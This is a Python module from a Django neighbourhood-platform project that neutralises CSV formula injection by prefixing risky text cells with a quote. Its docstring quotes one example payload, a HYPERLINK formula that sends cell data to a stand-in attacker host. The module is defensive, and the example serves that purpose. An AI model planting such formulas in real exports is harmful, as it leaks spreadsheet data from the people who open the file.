"""CSV files for download, safe to open in a spreadsheet.

A cell that starts with "=", "+", "-", "@", a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets: a BIN name proposed by any resident such as
``=HYPERLINK("https://evil.example/?"&A1;"Open")`` would run on the officer's computer.
Every text cell is therefore neutralised the OWASP way (a single quote in front, which the
spreadsheet shows as text and hides). Numbers stay numbers. Every CSV the project writes goes
through `csv_response` (or `writer` for another sink).
"""

import csv
import io
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse

from buurtnet.common.private_files import content_disposition

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet shows it as text; None becomes an empty cell."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _NeutralisingWriter:
    def __init__(self, out) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out) -> _NeutralisingWriter:
    """A `csv.writer` whose every text cell is neutralised."""
    return _NeutralisingWriter(out)


def csv_response(
    header: Iterable[Any], rows: Iterable[Iterable[Any]], filename: str
) -> HttpResponse:
    """A CSV download in UTF-8 with a byte order mark (Excel then reads it as UTF-8)."""
    out = io.StringIO()
    out.write("\ufeff")
    cells = writer(out)
    cells.writerow(header)
    cells.writerows(rows)
    response = HttpResponse(out.getvalue().encode("utf-8"), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition(filename)
    return response
